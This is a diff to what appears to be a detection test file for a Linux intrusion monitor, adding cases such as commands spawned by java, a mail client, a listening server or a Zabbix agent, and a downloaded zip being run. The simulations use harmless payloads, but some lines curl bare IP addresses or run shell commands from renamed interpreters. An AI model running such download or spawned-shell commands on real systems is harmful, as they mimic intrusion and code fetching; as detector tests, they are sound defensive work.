@@ -18,7 +18,7 @@ evince -c 'sh -c true; true'
 ## Program run from a removable disk
 #setup mkdir -p /media 2>/dev/null; mount -t tmpfs none /media; stubs /media/ann/STICK/setup
 /media/ann/STICK/setup
-## Download tool started by an install script
+## Unusual step of an install script
 sh -c 'curl -s http://10.9.8.7/ || true; : postinstall'
 ## Root login over SSH with a password
 #also Login from the internet with a password
@@ -72,3 +72,21 @@ ldapsearch -x -D cn=x -w secret
 nmcli dev wifi connect Corp password secret
 ## Key of a wireless network written
 mkdir -p /var/lib/iwd; echo x > /var/lib/iwd/Corp.psk
+## Intruder's command started by an application
+#setup shells /usr/lib/jvm/java-17/bin/java
+/usr/lib/jvm/java-17/bin/java -c 'sh -c "id > /dev/null; true"; :'
+## Intruder's command started by a listening program
+#setup mkdir -p /home/gw/bin; cp /usr/bin/python3.11 /home/gw/bin/web
+/home/gw/bin/web -c 'import os, socket; s = socket.create_server(("127.0.0.1", 9443)); os.system("ls /; id > /dev/null")'
+## Program run that an application had received
+#setup cp /usr/bin/perl /usr/bin/evolution; mkdir -p /home/ann/Documents
+/usr/bin/evolution -e 'open I, "<", "/bin/true"; open O, ">", "/home/ann/Documents/scan"; print O $_ while <I>; close O; chmod 0755, "/home/ann/Documents/scan"'; /home/ann/Documents/scan
+## Program out of a downloaded archive run
+#also Program run from a folder of downloads
+#setup mkdir -p /usr/lib/firefox /home/ann/Downloads /opt/a; cp /bin/true /opt/a/tool; cp /usr/bin/python3.11 /usr/lib/firefox/firefox; chown 1000 /home/ann/Downloads; cd /opt/a; zip -q a.zip tool
+setpriv --reuid 1000 --regid 1000 --clear-groups /usr/lib/firefox/firefox -c 'open("/home/ann/Downloads/a.zip", "wb").write(open("/opt/a/a.zip", "rb").read())'
+cd /home/ann/Downloads; setpriv --reuid 1000 --regid 1000 --clear-groups unzip -q a.zip; setpriv --reuid 1000 --regid 1000 --clear-groups ./tool
+## Foreign code brought by an agent of administration
+#also Transfer tool given a bare address
+#setup shells /usr/sbin/zabbix_agentd
+/usr/sbin/zabbix_agentd -c 'sh -c "curl -s -m 1 http://203.0.113.9/m || true"; :'
